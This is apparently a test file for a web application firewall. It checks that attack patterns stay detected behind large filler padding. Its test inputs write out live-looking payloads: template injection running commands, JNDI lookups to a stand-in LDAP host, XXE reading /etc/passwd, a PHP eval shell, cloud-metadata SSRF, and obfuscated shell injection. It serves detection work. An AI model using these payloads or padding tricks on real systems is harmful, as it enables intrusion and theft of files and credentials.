import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Sought } from '../../../../src/guard/decide/waf/inspect/searches.ts';
import { searches } from '../../../../src/guard/decide/waf/inspect/searches.ts';

const caught = (sought: Sought, text: string): void => {
  const score = searches.get(sought)!.detect(text)?.score ?? 0;
  assert.ok(score >= 50, `${sought}: ${text.slice(0, 40)}…${text.slice(-40)}: ${score}`);
};

/** As much of it as takes every bound of what is read at once. */
const times = [1, 30, 150, 3_000];

test('an expression of a template counts behind ever so much that stands in front of it', () => {
  const worst = "cycler.__init__.__globals__.os.popen('id').read()";
  for (const n of times)
    for (const text of [
      `{{${'1,'.repeat(n)}${worst}}}`,
      `{{"${'x'.repeat(3 * n)}"+${worst}+""}}`,
      `${'{{a '.repeat(n)}{{${worst}}}`,
      `{% if ${'1,'.repeat(n)}${worst} %}`,
      `<%=${'1,'.repeat(n)}system('id')%>`,
      `${'<%a '.repeat(n)}<%= system('id') %>`,
      `${'$a.b '.repeat(n)}$x.getClass().forName('java.lang.Runtime').getRuntime().exec('id')`,
      `${'{a '.repeat(n)}{system('id')}`,
    ])
      caught('template', text);
});

test('whatever is grave in an expression is so where nothing else of the text names anything', () => {
  const filler = '1,'.repeat(3_000);
  for (const worst of [
    "x|attr('y')",
    'x.__class__',
    "''['\\x5f\\x5fclass\\x5f\\x5f']",
    "['__cla','ss__']|join",
    "['id']|map('system')",
    "x|file_excerpt('/etc/passwd')",
    '@a.B@c()',
    'T(a.B)',
    '"freemarker.template.utility.Execute"?new()',
    'x?api.class',
    'new java.util.Scanner(1)',
    '_self.env.registerUndefinedFilterCallback("exec")',
    "x.getClass().forName('a')",
    'constructor.constructor("a")()',
    "$eval('a')",
    "System.Diagnostics.Process.Start('a')",
    "process.mainModule.require('child_process')",
    '#_memberAccess["a"]',
    'pageContext.getX()',
    "'id'.execute()",
    'freemarker',
  ]) {
    const text = `{{${filler}${worst}}}`;
    const alone = searches.get('template')!.detect(`{{${worst}}}`)?.score ?? 0;
    const behind = searches.get('template')!.detect(text)?.score ?? 0;
    if (alone >= 80) assert.ok(behind >= 50, `${worst}: ${alone} alone, ${behind} behind`);
    else assert.ok(alone > 0, worst);
  }
});

test('a look-up counts however deep it lies', () => {
  for (const n of times)
    for (const text of [
      `\${${'${lower:'.repeat(n)}j${'}'.repeat(n)}ndi:ldap://e.example/a}`,
      `${'${a:-'.repeat(n)}\${jndi:ldap://e.example/a}${'}'.repeat(n)}`,
    ])
      caught('jndi', text);
});

const entity = '<!ENTITY x SYSTEM "file:///etc/passwd">';
const behind: readonly (readonly [Sought, (n: number) => string])[] = [
  ['xxe', (n) => `${'<!-- <!DOCTYPE a> -->'.repeat(n)}<!DOCTYPE a [${entity}]>`],
  ['xxe', (n) => `<!DOCTYPE a [${'<!ELEMENT a ANY>'.repeat(n)}${entity}]>`],
  ['ssi', (n) => `${'<a>'.repeat(n)}<!--#exec cmd="id"-->`],
  ['mail', (n) => `x\n${' a\n'.repeat(n)}Bcc: c@d.example`],
  ['mail', (n) => `x\n${'X-A: b\n'.repeat(n)}Bcc: c@d.example`],
  ['crlf', (n) => `x${'\r\n a'.repeat(n)}\r\nSet-Cookie: a=b`],
  ['crlf', (n) => `${'\r\nA: b'.repeat(n)}\r\nSet-Cookie: a=b`],
  ['crlf', (n) => `${'a b\r\n'.repeat(n)}HTTP/1.1 200 OK\r\n\r\n<script>`],
  ['prototype', (n) => `{"a":[${'"__proto__x",'.repeat(n)}1],"__proto__":{"x":1}}`],
  ['prototype', (n) => `{"a":"${'x'.repeat(4 * n)}","constructor":{"prototype":{"x":1}}}`],
  ['xpath', (n) => `${'a/'.repeat(n)}'] | //user/* | a['`],
  ['deserialization', (n) => `{"a":"${'x'.repeat(n)}","b":{"@type":"com.sun.rowset.JdbcRowSetImpl"}}`],
  ['deserialization', (n) => `{${'"a":1,'.repeat(n)}"b":{"@type":"com.sun.rowset.JdbcRowSetImpl"}}`],
  ['deserialization', (n) => `<a>${'<b/>'.repeat(n)}<java.lang.ProcessBuilder>`],
  ['code', (n) => `${"print('a');".repeat(n)}system('id');`],
  ['code', (n) => `${'<?php a ?>'.repeat(n)}<?php $_GET[a]($_GET[b]); ?>`],
  ['xss', (n) => `<img ${'a=b '.repeat(n)}src=x onerror=alert(1)>`],
  ['ssrf', (n) => `http://${'a'.repeat(n)}@169.254.169.254/`],
  ['ssrf', (n) => `${'http://a.example '.repeat(n)}http://169.254.169.254/latest/meta-data/`],
  ['shell', (n) => `;c${"''".repeat(n)}at /etc/passwd`],
  ['shell', (n) => `;/${'./'.repeat(n)}bin/cat /etc/passwd`],
  ['shell', (n) => `;cat ${'"" '.repeat(n)}/etc/passwd`],
];

test('what is an attack is one behind ever so much filler, in every family', () => {
  for (const n of times) for (const [sought, text] of behind) caught(sought, text(n));
});
